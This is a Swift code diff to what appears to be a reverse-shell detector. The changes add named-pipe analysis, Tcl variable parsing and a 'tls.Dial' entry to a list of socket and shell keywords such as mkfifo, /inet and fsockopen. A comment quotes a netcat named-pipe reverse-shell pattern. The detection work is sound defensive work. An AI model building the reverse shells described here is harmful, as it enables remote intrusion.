@@ -23,9 +23,12 @@ final class ShellText {
   private(set) lazy var variables = Variables(text)
   private(set) lazy var signs = ShellSigns(text)
   /// What several languages ask for.
-  private(set) lazy var literalEndpoint = CodeEndpoints.literal(self)
+  private(set) lazy var literalEndpoint = CodeEndpoints.literal(self, in: text)
   private(set) lazy var hasFIFO =
-    signs.hasFIFO && (ShellWords.contains(text, word: "mkfifo") || ShellWords.contains(text, word: "mknod"))
+    signs.hasFIFO
+    && (ShellWords.contains(text, word: "mkfifo")
+      || ShellWords.contains(text, word: "mknod") && !NamedPipes.areDevices(commands))
+  private(set) lazy var pipes = NamedPipes(commands)
   private(set) lazy var hasCoprocess = has("COPROC[")
   /// Whether a shell that reads its input stands anywhere; in a pipe.
   private(set) lazy var hasFreeShell = freeShells.contains { $0.words.count > 1 }
@@ -52,6 +55,10 @@ final class ShellText {
 
   private lazy var freeShells = commands.filter {
     $0.words.count > 0 && ShellWords.isShellReadingInput(Self.withoutPrefix($0.words))
+  }
+  private lazy var hasShellAtPipe = commands.indices.contains {
+    commands[$0].words.count > 0 && ShellWords.isShellReadingInput(Self.withoutPrefix(commands[$0].words))
+      && pipes.areUsed(commands, by: $0)
   }
 
   convenience init(_ text: ByteView) { self.init(SharedText(text)) }
@@ -111,6 +118,9 @@ final class ShellText {
       let first = command.word(0)
       if first == "set", command.word(1) == "--" {
         give((1..<10).map { String($0) }, command.words.dropFirst(2).prefix(9))
+      } else if first == "set", command.words.count == 3, command.word(1)[0] > 0x39 {
+        // Tcl's `set host kali`.
+        give(CollectionOfOne(command.word(1).string), CollectionOfOne(command.word(2)))
       } else if first == "for", command.word(2) == "in" {
         give(CollectionOfOne(command.word(1).string), command.words.dropFirst(3).prefix(1))
       } else if first == "read", command.words.last.map({ $0 == "<<<" }) == true, index + 1 < commands.count {
@@ -152,6 +162,12 @@ final class ShellText {
       && commands[index + 2].words.printedShell != nil
   }
 
+  /// Whether only a named pipe stands between a command and a shell: `sh <f >g & nc host 1 <g >f`.
+  func isJoinedWithShell(_ index: Int) -> Bool {
+    guard hasFIFO, hasFreeShell else { return false }
+    return pipes.isUnnamed || hasShellAtPipe && pipes.areUsed(commands, by: index)
+  }
+
   private lazy var runsLines = DevTCPMatcher.runsLines(self)
 
   /// How many commands a loop with a shell in it has.
@@ -188,7 +204,7 @@ struct ShellSigns {
     "mkfifo", "mknod", "getRuntime()", "ProcessBuilder", "child_process", "ztcp", "/inet", "telnet://", "nowait",
     // Whatever the language, a socket is named so, or by what Perl, PHP and Go say instead.
     "ocket", "OCKET", "fsockopen", "net.", "connect(", "PeerAddr", "TCPClient", "TcpClient", "TcpStream",
-    "open_connection", "createConnection", "Telnet(", "createServer(",
+    "open_connection", "createConnection", "Telnet(", "createServer(", "tls.Dial",
   ]
   private static let finder = WordFinder(words)
 
